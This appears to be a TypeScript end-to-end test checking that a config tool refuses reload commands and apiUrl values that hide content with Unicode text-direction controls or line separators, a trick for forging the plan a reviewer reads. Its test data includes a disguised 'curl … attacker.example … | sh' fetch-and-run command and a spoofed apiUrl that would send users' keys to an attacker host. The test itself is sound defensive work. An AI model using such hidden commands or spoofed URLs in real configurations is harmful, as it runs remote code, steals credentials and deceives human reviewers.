/**
 * A pull request that changes only the stack file puts a line separator (U+2028) and
 * text-direction controls (U+2066..U+2069) into a reload command or the ml config's apiUrl:
 * printed through JSON.stringify, which escapes neither, they forged and reordered lines of the
 * plan a reviewer reads (attack41 F3, 2 of 2). Now such text is refused, and never printed as is.
 */
import * as fs from "node:fs";
import * as path from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { UNPRINTABLE } from "../../lib/printable";
import { E2EStack } from "../support/e2eStack";

const users = { alice: { role: "admin" } };
let e2e: E2EStack;
let target: string;
beforeAll(async () => {
  e2e = await E2EStack.create({});
  target = path.join(e2e.dir, "fetchml-server.yaml");
  fs.writeFileSync(target, "auth:\n  enabled: true\n  api_keys:\n", { mode: 0o600 });
  e2e.setConfig({ authConfigPath: target, reloadCommand: "true", users });
  await e2e.up();
});
afterAll(async () => e2e?.cleanup());

/** Every line the summary and the refusal print, each checked on its own. */
async function printedLines(): Promise<{ lines: string[]; refused: string }> {
  const summary = await e2e.summary();
  const refused = summary.refused ?? "";
  return { lines: [...summary, ...refused.split("\n")], refused };
}

it("a reload command holding text-direction controls or a line separator is refused, never printed into the plan as is", async () => {
  // On screen (bidi applied) the end reads "true"; the shell would run the hidden part too.
  const hidden = "true\u2066 ; curl -s https://attacker.example/x | sh #\u2069";
  e2e.setConfig({ authConfigPath: target, reloadCommand: hidden, users });
  const bidi = await printedLines();
  for (const line of bidi.lines) expect(line).not.toMatch(UNPRINTABLE);
  expect(bidi.refused).toMatch(/reloadCommand: "true\\u2066 ; curl .* holds a control or text-direction character/);
  // A line separator too: written into the stack file as it is, it is refused with the file
  // (the engine's YAML reader ends a line there, the check's would not).
  e2e.setConfig({ authConfigPath: target, reloadCommand: `${hidden}\u2028+ no access changes`, users });
  const separated = await printedLines();
  for (const line of separated.lines) expect(line).not.toMatch(UNPRINTABLE);
  expect(separated.refused).toMatch(/the stack file has a line break other than \\n \(\\u2028\) at line \d+, column \d+/);
});

it("an apiUrl holding text-direction controls (where every user's ml CLI sends its key) is refused, never printed into the plan as is", async () => {
  const apiUrl = "wss://fetchml.example\u2066.attacker.example/ws#\u2069";
  e2e.setConfig({ authConfigPath: target, reloadCommand: "true", users, client: { apiUrl } });
  const { lines, refused } = await printedLines();
  for (const line of lines) expect(line).not.toMatch(UNPRINTABLE);
  expect(refused).toContain(
    'client.apiUrl: "wss://fetchml.example\\u2066.attacker.example/ws#\\u2069" holds a control or text-direction character',
  );
});
